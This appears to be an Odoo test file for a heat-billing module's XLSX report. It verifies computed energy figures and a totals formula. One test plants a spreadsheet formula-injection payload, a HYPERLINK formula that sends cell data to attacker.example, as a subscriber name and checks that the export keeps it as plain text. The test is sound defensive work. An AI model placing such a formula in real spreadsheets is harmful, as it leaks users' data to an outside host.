# Copyright 2026 La Boite Commune
# License AGPL-3.0 or later (https://www.gnu.org/licenses/agpl).
import io
from datetime import date

from openpyxl import load_workbook

from odoo.tests import tagged

from .common import HeatBillingCommon


@tagged("post_install", "-at_install")
class TestHeatBillingRunXlsx(HeatBillingCommon):
    def test_run_as_xlsx(self):
        self._read(self.meter, date(2025, 1, 1), 1000.0)
        self._read(self.meter, date(2025, 2, 1), 11000.0)
        self._read(self.meter2, date(2025, 1, 1), 5000.0)
        self._read(self.meter2, date(2025, 2, 1), 21830.0)
        run = self._run(date(2025, 1, 1), date(2025, 1, 31))
        run.action_compute()
        run.action_post()
        content, kind = self.env["ir.actions.report"]._render_xlsx(
            "heat_billing.heat_billing_run_xlsx", run.ids, {}
        )
        self.assertEqual(kind, "xlsx")
        sheet = load_workbook(io.BytesIO(content)).worksheets[0]
        rows = list(sheet.iter_rows(values_only=True))
        headers = rows[3]
        self.assertEqual(headers[0], "Subscription")
        body = {row[0]: dict(zip(headers, row, strict=True)) for row in rows[4:6]}
        school = body[self.subscription2.name]
        self.assertEqual(school["Subscriber"], "École de test")
        self.assertAlmostEqual(school["Energy (MWh)"], 16.83)
        self.assertEqual(
            (school["Start index (kWh)"], school["End index (kWh)"]), (5000, 21830)
        )
        self.assertTrue(school["Invoice"])
        total = dict(zip(headers, rows[6], strict=True))
        self.assertEqual(total["Subscription"], "Total")
        self.assertEqual(total["Total (€ HT)"], "=SUM(O5:O6)")

    def test_user_text_is_never_a_formula(self):
        """A subscriber named like a formula stays text in the workbook."""
        formula = '=HYPERLINK("http://attacker.example/?"&A1,"Click")'
        self.subscription.partner_id.name = formula
        self._read(self.meter, date(2025, 1, 1), 1000.0)
        self._read(self.meter, date(2025, 2, 1), 11000.0)
        run = self._run(date(2025, 1, 1), date(2025, 1, 31))
        run.action_compute()
        content, _kind = self.env["ir.actions.report"]._render_xlsx(
            "heat_billing.heat_billing_run_xlsx", run.ids, {}
        )
        sheet = load_workbook(io.BytesIO(content)).worksheets[0]
        cells = [cell for row in sheet.iter_rows() for cell in row if cell.value]
        named = [cell for cell in cells if cell.value == formula]
        self.assertTrue(named)
        self.assertEqual({cell.data_type for cell in named}, {"s"})
        # the report's own totals are still formulas
        self.assertIn("f", {cell.data_type for cell in cells})
